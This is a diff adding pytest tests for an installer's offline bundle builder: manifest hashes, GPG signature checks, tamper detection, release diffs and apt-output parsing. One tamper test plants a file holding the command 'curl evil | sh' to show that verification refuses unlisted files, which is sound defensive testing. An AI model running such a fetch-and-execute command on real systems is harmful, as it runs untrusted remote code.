@@ -1,0 +1,347 @@
+"""The bundle engine without a network: small bundles from local files, tampering, the full release's gaps.
+
+OS packages need Debian's mirror, so they are proven in tests/lab/test_bundle.py; here packages are
+either off (`packages=False`) or the apt helpers are fed apt's captured output.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from installer.bundle import BuildOptions, build, diff, verify
+from installer.bundle import apt as bundle_apt
+from installer.bundle import images as bundle_images
+from installer.bundle.model import Manifest
+from installer.cli.bundle import bundle as bundle_cli
+from installer.release import RELEASES_DIR, Release, load_release
+from installer.validation import validate_document
+from installer.yamlpos import load_yaml_file
+
+pytestmark = pytest.mark.skipif(shutil.which("gpg") is None or shutil.which("gpgv") is None, reason="needs gpg")
+
+PAYLOAD = b"#!/bin/sh\necho kubectl-stand-in\n" * 100
+
+
+def _release_file(directory: Path, version: str, sha: str, extra: dict | None = None) -> Path:
+    doc = {
+        "apiVersion": "aicloud/v1alpha1",
+        "kind": "Release",
+        "version": version,
+        "date": "2026-11-22",
+        "summary": "test",
+        "os": ["debian-12"],
+        "components": {
+            "tool": {
+                "phase": "runtime",
+                "version": "1.0",
+                "source": "test",
+                "binaries": [{"name": "tool", "url": "https://example.invalid/v1/tool", "sha256": sha}],
+                **(extra or {}),
+            }
+        },
+    }
+    path = directory / f"{version}.yaml"
+    path.write_text(yaml.safe_dump(doc, sort_keys=False))
+    return path
+
+
+def _load(path: Path) -> Release:
+    return validate_document(load_yaml_file(path), Release)
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("AICLOUD_HOME", str(tmp_path / "home"))
+    return tmp_path / "home"
+
+
+@pytest.fixture
+def small(tmp_path: Path, home: Path) -> tuple[Path, Release, BuildOptions]:
+    """A complete bundle of a release with one binary taken from --from-dir (offline)."""
+    src = tmp_path / "from"
+    src.mkdir()
+    (src / "tool").write_bytes(PAYLOAD)
+    releases = tmp_path / "releases"
+    releases.mkdir()
+    release = _load(_release_file(releases, "t-1", hashlib.sha256(PAYLOAD).hexdigest()))
+    opts = BuildOptions(out=tmp_path / "bundle", os_families=["debian-12"], from_dir=src, online=False,
+                        packages=False, releases_dir=releases)
+    result = build(release, opts)
+    assert result.complete, result.manifest.missing
+    return opts.out, release, opts
+
+
+def _problems(bundle: Path) -> list[str]:
+    return [str(p) for p in verify(bundle).problems]
+
+
+# ----------------------------------------------------------------------------- build + verify
+
+
+def test_a_built_bundle_lists_every_file_with_size_and_sha256_and_verifies(small):
+    out, _, _ = small
+    manifest = Manifest.read(out)
+    assert manifest.release == "t-1" and manifest.os == ["debian-12"] and manifest.complete
+    listed = set(manifest.files)
+    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
+    assert on_disk - listed == {"bundle.json", "bundle.json.asc"}
+    entry = manifest.files["files/tool/amd64/tool"]
+    assert (entry.size, entry.sha256) == (len(PAYLOAD), hashlib.sha256(PAYLOAD).hexdigest())
+    assert (out / "keys/aicloud-bundle.gpg").is_file()
+    assert _problems(out) == []
+
+
+def test_a_flipped_byte_is_refused_with_the_file_name(small):
+    out, _, _ = small
+    target = out / "files/tool/amd64/tool"
+    data = bytearray(target.read_bytes())
+    data[10] ^= 0x01
+    target.write_bytes(bytes(data))
+    assert _problems(out) == ["files/tool/amd64/tool: sha256 differs from bundle.json (changed after the build)"]
+
+
+def test_a_deleted_file_is_refused_with_its_name(small):
+    out, _, _ = small
+    (out / "SHA256SUMS").unlink()
+    assert _problems(out) == ["SHA256SUMS: missing"]
+
+
+def test_an_added_file_is_refused_with_its_name(small):
+    out, _, _ = small
+    (out / "files/tool/amd64/evil.sh").write_text("curl evil | sh\n")
+    assert _problems(out) == ["files/tool/amd64/evil.sh: extra file, not in bundle.json"]
+
+
+def test_a_changed_bundle_json_fails_its_signature(small):
+    out, _, _ = small
+    data = json.loads((out / "bundle.json").read_text())
+    data["files"]["files/tool/amd64/tool"]["size"] = 1
+    (out / "bundle.json").write_text(json.dumps(data))
+    problems = _problems(out)
+    assert problems[0].startswith("bundle.json: signature check failed (changed after the build?)")
+
+
+def test_a_bundle_signed_by_another_key_is_refused_when_the_fingerprint_is_pinned(small):
+    out, _, _ = small
+    result = verify(out, fingerprint="0" * 40)
+    assert not result.ok and "not the expected 0000" in str(result.problems[0])
+    good = Manifest.read(out).key_fingerprint
+    assert verify(out, fingerprint=good).ok
+
+
+def test_a_rebuild_reuses_what_is_there_and_verified(small):
+    out, release, opts = small
+    again = build(release, opts)
+    assert (again.reused, again.fetched) == (1, 0)
+    assert Manifest.read(out).key_fingerprint == again.manifest.key_fingerprint  # the key is kept
+    assert verify(out).ok
+
+
+def test_a_rebuild_replaces_a_damaged_file(small):
+    out, release, opts = small
+    (out / "files/tool/amd64/tool").write_bytes(b"damaged")
+    again = build(release, opts)
+    assert again.fetched == 1 and verify(out).ok
+
+
+def test_a_binary_whose_local_copy_has_another_sha256_is_missing_not_included(tmp_path, home):
+    src = tmp_path / "from"
+    src.mkdir()
+    (src / "tool").write_bytes(b"something else")
+    releases = tmp_path / "releases"
+    releases.mkdir()
+    release = _load(_release_file(releases, "t-2", "a" * 64))
+    result = build(release, BuildOptions(out=tmp_path / "b", os_families=["debian-12"], from_dir=src,
+                                         online=False, packages=False, releases_dir=releases))
+    assert not result.complete
+    (missing,) = result.manifest.missing
+    assert missing.kind == "binary" and "the release pins aaaa" in missing.reason
+    assert missing.pinned_at.endswith("t-2.yaml:14")
+    assert not (tmp_path / "b/files/tool/amd64/tool").exists()
+    assert "incomplete bundle: 1 artifacts missing" in _problems(tmp_path / "b")[0]
+
+
+def test_a_floating_tag_is_refused_at_build_time(tmp_path, home):
+    releases = tmp_path / "releases"
+    releases.mkdir()
+    release = _load(_release_file(releases, "t-3", hashlib.sha256(PAYLOAD).hexdigest()))
+    comp = release.components["tool"]
+    # The BOM model refuses `latest` already; build refuses it too, whatever made the Release.
+    floating = comp.model_construct(**{**comp.__dict__, "binaries": [], "images": [
+        bundle_images_image("docker.io/library/nginx", "latest")]})
+    release = release.model_construct(**{**release.__dict__, "components": {"tool": floating}})
+    result = build(release, BuildOptions(out=tmp_path / "b", os_families=["debian-12"], online=False,
+                                         packages=False, releases_dir=releases))
+    (missing,) = result.manifest.missing
+    assert missing.kind == "image" and "floating tag 'latest'" in missing.reason
+
+
+def bundle_images_image(image: str, tag: str):
+    from installer.release import Image
+
+    return Image.model_construct(image=image, tag=tag, digest="sha256:" + "1" * 64)
+
+
+def test_an_os_family_the_release_does_not_support_is_an_error(small):
+    _, release, opts = small
+    from installer.bundle import BundleError
+
+    with pytest.raises(BundleError, match=r"supports debian-12, not ubuntu-22\.04"):
+        build(release, BuildOptions(out=opts.out, os_families=["ubuntu-22.04"], packages=False))
+
+
+# ----------------------------------------------------------------------------- the full release here
+
+
+@pytest.fixture(scope="module")
+def full_release_offline(tmp_path_factory: pytest.TempPathFactory):
+    tmp = tmp_path_factory.mktemp("full")
+    mp = pytest.MonkeyPatch()
+    mp.setenv("AICLOUD_HOME", str(tmp / "home"))
+    try:
+        out = tmp / "bundle"
+        runner = CliRunner()
+        cli = runner.invoke(bundle_cli, ["build", "--release", "2026.11", "--os", "debian-12", "--out", str(out),
+                                         "--offline", "--no-packages"])
+        yield out, cli
+    finally:
+        mp.undo()
+
+
+def test_the_full_release_built_offline_lists_every_missing_artifact_with_its_pin(full_release_offline):
+    out, _cli = full_release_offline
+    release = load_release("2026.11")
+    manifest = Manifest.read(out)
+    assert not manifest.complete
+    refs = {m.ref for m in manifest.missing}
+    for _, item in release.unpinned:
+        other_family = item.kind == "package" and "(ubuntu-" in item.ref  # this bundle carries debian-12 only
+        assert (item.ref in refs) != other_family, item
+    for comp in release.components.values():
+        for image in comp.images:
+            assert f"{image.image}:{image.tag}@{image.digest}" in refs
+        for binary in comp.binaries:
+            assert binary.url in refs
+    for m in manifest.missing:
+        assert m.pinned_at.startswith(str(RELEASES_DIR / "2026.11.yaml:")) or m.pinned_at.startswith(
+            "installer/releases/2026.11.yaml:"), m
+
+
+def test_the_full_release_build_ends_with_the_list_not_a_traceback(full_release_offline):
+    _out, cli = full_release_offline
+    assert cli.exit_code == 1, cli.output
+    assert cli.exception is None or isinstance(cli.exception, SystemExit)
+    assert "INCOMPLETE" in cli.output and "Traceback" not in cli.output
+    assert "pinned at" in cli.output and "registry.k8s.io/kube-apiserver:v1.36.3" in cli.output
+
+
+def test_an_incomplete_bundle_never_verifies(full_release_offline):
+    out, _ = full_release_offline
+    result = CliRunner().invoke(bundle_cli, ["verify", str(out)])
+    assert result.exit_code == 1 and "refused: incomplete bundle:" in result.output
+
+
+# ----------------------------------------------------------------------------- diff
+
+
+def test_diff_of_two_releases_names_component_and_package_changes():
+    result = diff("lab-2026.11", "2026.11")
+    changed = {(c.section, c.name): c for c in result.changes}
+    assert changed[("component", "containerd")].kind == "changed"
+    assert changed[("component", "containerd")].old == "1.6.20"
+    assert changed[("component", "lab-bundle")].kind == "removed"
+    assert changed[("component", "kubernetes")].kind == "added"
+    assert changed[("package", "debian-12 kubeadm")].new == "1.36.3-1.1"
+
+
+def test_diff_of_two_bundles_shows_the_binary_that_changed(tmp_path, home):
+    out = {}
+    for n, payload in ((1, PAYLOAD), (2, PAYLOAD + b"v2")):
+        src = tmp_path / f"from{n}"
+        src.mkdir()
+        (src / "tool").write_bytes(payload)
+        releases = tmp_path / f"r{n}"
+        releases.mkdir()
+        release = _load(_release_file(releases, "t-1", hashlib.sha256(payload).hexdigest()))
+        out[n] = tmp_path / f"b{n}"
+        assert build(release, BuildOptions(out=out[n], os_families=["debian-12"], from_dir=src, online=False,
+                                           packages=False, releases_dir=releases)).complete
+    result = diff(out[1], out[2])
+    binaries = result.of("binary")
+    assert [(c.name, c.kind) for c in binaries] == [("tool/tool/amd64", "changed")]
+    assert {c.name for c in result.of("file")} >= {"files/tool/amd64/tool"}
+    assert diff(out[1], out[1]).empty
+
+
+def test_diff_cli_refuses_what_is_neither_a_bundle_nor_a_release():
+    result = CliRunner().invoke(bundle_cli, ["diff", "lab-2026.11", "no-such-thing"])
+    assert result.exit_code == 2 and "neither a bundle directory nor a release" in result.output
+
+
+# ----------------------------------------------------------------------------- apt and image helpers
+
+
+def test_print_uris_lines_without_a_hash_are_parsed():
+    # Captured from apt-get --print-uris on Debian 12: the security archive gives no hash.
+    line = ("'http://security.debian.org/debian-security/pool/updates/main/n/nginx/nginx_1.22.1-9%2bdeb12u11_amd64.deb'"
+            " nginx_1.22.1-9+deb12u11_amd64.deb 532468 ")
+    match = bundle_apt._URI.match(line)
+    assert match and match["file"] == "nginx_1.22.1-9+deb12u11_amd64.deb" and match["size"] == "532468"
+    hashed = ("'http://deb.debian.org/debian/pool/main/a/adduser/adduser_3.134_all.deb'"
+              " adduser_3.134_all.deb 1 SHA256:ab")
+    assert bundle_apt._URI.match(hashed)["hash"] == "SHA256:ab"
+
+
+def test_pool_names_drop_the_epoch_and_identities_keep_it():
+    assert bundle_apt.pool_name("libcrypt1_1%3a4.4.33-2_amd64.deb") == "libcrypt1_4.4.33-2_amd64.deb"
+    assert bundle_apt.deb_identity("libcrypt1_1%3a4.4.33-2_amd64.deb") == ("libcrypt1", "1:4.4.33-2", "amd64")
+
+
+def test_release_and_packages_indexes_are_parsed():
+    release = "Origin: aicloud\nSHA256:\n abc 12 main/binary-amd64/Packages\n def 5 main/binary-amd64/Packages.gz\n"
+    assert bundle_apt.parse_release_hashes(release)["main/binary-amd64/Packages"] == ("abc", 12)
+    packages = ("Package: a\nFilename: pool/main/a_1_all.deb\nSHA256: 11\n\n"
+                "Package: b\nFilename: pool/main/b.deb\nSHA256: 22\n")
+    assert bundle_apt.parse_packages_index(packages) == {"pool/main/a_1_all.deb": "11", "pool/main/b.deb": "22"}
+
+
+def _fake_busybox_deb(tmp: Path, content: bytes) -> Path:
+    root = tmp / "pkg"
+    (root / "DEBIAN").mkdir(parents=True)
+    (root / "bin").mkdir()
+    (root / "bin/busybox").write_bytes(content)
+    (root / "DEBIAN/control").write_text("Package: busybox-static\nVersion: 1\nArchitecture: amd64\n"
+                                         "Maintainer: t <t@t>\nDescription: t\n")
+    deb = tmp / "busybox-static_1_amd64.deb"
+    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(root), str(deb)], check=True,
+                   capture_output=True)
+    return deb
+
+
+@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="needs dpkg-deb")
+def test_the_local_image_recipe_is_reproducible_and_follows_its_input(tmp_path):
+    deb = _fake_busybox_deb(tmp_path, b"\x7fELF fake busybox")
+    recipe = bundle_images.RECIPES["aicloud.local/lab/busybox"]
+    first = bundle_images.build_local_image(recipe, deb, tmp_path / "l1", "aicloud.local/lab/busybox:1", "amd64")
+    second = bundle_images.build_local_image(recipe, deb, tmp_path / "l2", "aicloud.local/lab/busybox:1", "amd64")
+    assert first == second
+    assert bundle_images.layout_index(tmp_path / "l1") == {"aicloud.local/lab/busybox:1": first}
+    other = _fake_busybox_deb(tmp_path / "o", b"\x7fELF another busybox") if (tmp_path / "o").mkdir() is None else None
+    third = bundle_images.build_local_image(recipe, other, tmp_path / "l3", "aicloud.local/lab/busybox:1", "amd64")
+    assert third != first
+
+
+def test_the_lab_release_pins_the_image_its_recipe_builds():
+    release = load_release("lab-2026.11")
+    image = release.components["lab-bundle"].images[0]
+    assert image.image in bundle_images.RECIPES
+    recipe = bundle_images.RECIPES[image.image]
+    assert recipe.package in {p.name for p in release.components["lab-bundle"].packages["debian-12"]}
